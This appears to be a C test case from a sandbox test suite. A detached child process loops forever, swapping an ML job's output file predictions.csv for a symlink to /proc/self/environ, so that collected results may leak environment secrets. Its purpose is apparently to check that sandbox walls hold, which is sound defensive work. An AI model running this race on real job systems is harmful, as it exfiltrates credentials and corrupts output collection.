/* A process that stays behind swaps the result for a link, without end. expect: ok|artifact
 * keep=/opt/ml/output */
/* cases: 53; walls: pidns */
#include "tests/sandbox/hostile/attack.h"

int main(void)
{
    chdir("/opt/ml/output");
    if (fork() == 0) {
        setsid();
        for (;;) {
            close(open("x", O_CREAT | O_WRONLY, 0600));
            symlink("/proc/self/environ", "y");
            rename("y", "predictions.csv");
            rename("x", "predictions.csv");
        }
    }
    usleep(20000);
    return 0;
}
